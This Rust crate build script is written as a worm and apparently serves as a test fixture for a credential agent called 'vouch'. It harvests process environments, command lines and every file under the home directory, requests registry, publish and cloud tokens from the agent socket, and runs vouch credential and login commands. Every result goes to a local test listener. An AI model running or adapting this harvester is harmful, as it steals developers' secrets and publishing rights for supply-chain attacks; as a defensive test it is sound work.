//! A worm in a crate's build script: Rust's standard library alone. It reports to the test's listener, as worm.cjs does.
use std::collections::HashMap;
use std::fs;
use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

struct Worm {
    settings: HashMap<String, String>,
    home: String,
}

fn read(path: &str) -> Vec<u8> {
    fs::read(path).unwrap_or_else(|error| error.to_string().into_bytes())
}

fn environ(pid: &str) -> Vec<u8> {
    read(&format!("/proc/{pid}/environ"))
}

fn parent_of(pid: &str) -> String {
    let status = String::from_utf8_lossy(&read(&format!("/proc/{pid}/status"))).into_owned();
    let line = status.lines().find(|line| line.starts_with("PPid:"));
    line.map(|line| line[5..].trim().to_string()).unwrap_or_default()
}

fn below(folder: &Path, found: &mut Vec<u8>) {
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => below(&entry.path(), found),
            Ok(kind) if kind.is_file() => found.extend(fs::read(entry.path()).unwrap_or_default()),
            _ => {}
        }
    }
}

impl Worm {
    fn own(&self, pid: &str) -> bool {
        let home = format!("\0HOME={}\0", self.home);
        String::from_utf8_lossy(&environ(pid)).contains(&home)
    }

    fn ancestors(&self) -> Vec<String> {
        let (mut found, mut pid) = (Vec::new(), parent_of("self"));
        while pid.len() > 1 && self.own(&pid) {
            found.push(pid.clone());
            pid = parent_of(&pid);
        }
        found
    }

    fn processes(&self) -> Vec<String> {
        let names = fs::read_dir("/proc").into_iter().flatten().flatten();
        let names = names.map(|entry| entry.file_name().to_string_lossy().into_owned());
        names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()) && self.own(name)).collect()
    }

    fn report(&self, name: &str, got: &[u8]) {
        let mut listener = UnixStream::connect(&self.settings["report"]).expect("the listener is there");
        let _ = write!(listener, "{}\t{name}\n", self.settings["worm"]);
        let _ = listener.write_all(got);
    }

    fn ask(&self, route: &str, body: &str) -> Vec<u8> {
        let mut answer = Vec::new();
        let path = format!("{}/agent.sock", std::env::var("VOUCH_RUNTIME_DIR").unwrap_or_default());
        if let Ok(mut agent) = UnixStream::connect(path) {
            let _ = agent.set_read_timeout(Some(Duration::from_secs(5)));
            let head = "HTTP/1.1\r\nhost: vouch\r\nvouch-protocol: 1\r\nconnection: close\r\n";
            let _ = write!(agent, "POST /v1/{route} {head}content-length: {}\r\n\r\n{body}", body.len());
            let _ = agent.read_to_end(&mut answer);
        }
        answer
    }

    fn cargo(&self, operation: &str) -> String {
        let (host, repository) = (&self.settings["host"], &self.settings["repository"]);
        let index = format!("sparse+https://{host}/cargo/{repository}/");
        let claim = r#""name":"worm-of-mine","vers":"1.0.0","cksum":"00""#;
        format!(r#"{{"v":1,"kind":"get","operation":"{operation}","registry":{{"index-url":"{index}"}},{claim}}}"#)
    }

    /// What `timeout`, which ends its process group, lets a vouch say.
    fn vouch(&self, words: &[&str], given: &str) -> Vec<u8> {
        let program = format!("{}/bin/vouch", self.settings["folder"]);
        let mut command = Command::new("timeout");
        command.args(["-s", "KILL", "6", &program]).args(words);
        let child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn();
        let Ok(mut child) = child else { return Vec::new() };
        let _ = child.stdin.take().map(|mut stdin| stdin.write_all(given.as_bytes()));
        child.wait_with_output().map(|output| [output.stdout, output.stderr].concat()).unwrap_or_default()
    }
}

fn main() {
    let folder = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    let text = fs::read_to_string(format!("{folder}/settings.txt")).unwrap();
    let pairs = text.lines().filter_map(|line| line.split_once('='));
    let settings = pairs.map(|(key, value)| (key.to_string(), value.to_string())).collect();
    let worm = Worm { settings, home: std::env::var("HOME").unwrap() };
    let all = |pids: Vec<String>, of: &str| -> Vec<u8> {
        pids.iter().flat_map(|pid| read(&format!("/proc/{pid}/{of}"))).collect()
    };
    let home_files = || {
        let mut found = Vec::new();
        below(Path::new(&worm.home), &mut found);
        found
    };
    worm.report("own-environment", &environ("self"));
    worm.report("parent-environment", &environ(&parent_of("self")));
    worm.report("ancestors-environment", &all(worm.ancestors(), "environ"));
    worm.report("all-environments", &all(worm.processes(), "environ"));
    worm.report("arguments", &all(worm.processes(), "cmdline"));
    worm.report("home-files", &home_files());
    for format in ["cargo", "npm", "pypi"] {
        worm.report("ask-tokens", &worm.ask("tokens", &format!(r#"{{"format":"{format}"}}"#)));
        let publish = format!(r#"{{"format":"{format}","purpose":"publish"}}"#);
        worm.report("ask-publish-tokens", &worm.ask("tokens", &publish));
    }
    worm.report("ask-token", &worm.ask("token", "{}"));
    worm.report("ask-cargo", &worm.ask("cargo", &worm.cargo("read")));
    worm.report("ask-environment", &worm.ask("environment", "{}"));
    worm.report("ask-role", &worm.ask("role-credentials", "{}"));
    worm.report("ask-publish-token", &worm.ask("token", r#"{"purpose":"publish"}"#));
    worm.report("ask-publish-parent", &worm.ask("token", r#"{"purpose":"publish","holder":"parent"}"#));
    worm.report("ask-publish-environment", &worm.ask("environment", r#"{"purpose":"publish"}"#));
    for operation in ["publish", "yank", "owners"] {
        worm.report("ask-publish-cargo", &worm.ask("cargo", &worm.cargo(operation)));
    }
    worm.report("credential-codeartifact", &worm.vouch(&["credential", "codeartifact"], ""));
    worm.report("credential-aws", &worm.vouch(&["credential", "aws"], ""));
    worm.report("exec", &worm.vouch(&["exec", "--", "env"], ""));
    worm.report("cargo-provider", &worm.vouch(&["--cargo-plugin"], &(worm.cargo("read") + "\n")));
    worm.report("cargo-provider-publish", &worm.vouch(&["--cargo-plugin"], &(worm.cargo("publish") + "\n")));
    worm.report("credential-publish", &worm.vouch(&["credential", "codeartifact", "--purpose", "publish"], ""));
    worm.report("exec-publish", &worm.vouch(&["exec", "--publish", "--", "env"], ""));
    worm.report("key-add", &worm.vouch(&["keys", "add"], ""));
    worm.report("login", &worm.vouch(&["login"], ""));
    worm.report("end", b"");
}
